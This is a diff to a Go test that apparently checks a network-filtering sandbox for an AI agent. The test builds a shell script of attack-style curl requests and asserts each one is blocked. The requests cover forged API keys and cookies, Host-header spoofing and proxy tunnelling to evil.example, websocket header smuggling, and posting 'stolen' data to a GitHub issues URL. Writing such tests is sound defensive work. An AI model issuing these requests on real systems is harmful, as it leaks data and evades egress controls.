@@ -164,7 +164,9 @@ func (a defaultAgent) try(t *testing.T, bin string) {
 	attack := `exec 2>&1; cat made.txt old.txt > both.txt; rm old.txt
 (` + get("unknown", "https://unknown.example/1") + `) & (` + get("again", "https://unknown.example/2") + `) &
 ` + get("vendor", "https://"+a.host+"/other") + get("attacker", "-H 'x-api-key: attacker-0123456789' https://"+a.host+"/v1/files") + get("cookie", "-b session=attacker https://"+a.host+"/v1/files") +
-		get("query", "'https://"+a.host+"/v1/files?key=attacker-0123456789'") + get("address", "https://192.0.2.7/") + get("write", "-d stolen https://github.com/me/repo.git/issues") + `
+		get("query", "'https://"+a.host+"/v1/files?key=attacker-0123456789'") + get("address", "https://192.0.2.7/") +
+		get("plain", "http://"+a.host+"/v1/files") + get("host", "-H 'Host: evil.example' https://"+a.host+"/") + get("tunnel", "-p --proxy https://"+a.host+" https://evil.example/") +
+		get("batch", "-H 'Content-Type: multipart/mixed; boundary=x' -d x https://"+a.host+"/batch") + get("socket", "--http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Protocol: key.attacker' https://"+a.host+"/") + get("write", "-d stolen https://github.com/me/repo.git/issues") + `
 echo echo $(curl -sS https://` + a.host + `/echo | tr -d '\r' | grep -ic '^` + strings.Split(a.login, ":")[0] + `: .*placeholder$')
 git init -q x; cd x
 git fetch -q https://github.com/me/repo.git main && echo fetched $(git log --format=%s FETCH_HEAD)
@@ -231,7 +233,7 @@ wait; echo the command ran`
 		t.Errorf("the last answer of the model is missing:\n%s\n%s", stdout, stderr)
 	}
 	results := strings.Join(w.model.lastResults(), "\n")
-	for _, want := range []string{"unknown 000", "again 000", "vendor 404", "attacker 403", "cookie 403", "query 403", "address 000", "write 403", "echo 1", "fetched upstream", "the command ran"} {
+	for _, want := range []string{"unknown 000", "again 000", "vendor 404", "attacker 403", "cookie 403", "query 403", "address 000", "plain 403", "host 403", "tunnel 000", "batch 403", "socket 403", "write 403", "echo 1", "fetched upstream", "the command ran"} {
 		if !strings.Contains(results, want) {
 			t.Errorf("the command does not say %q:\n%s", want, results)
 		}
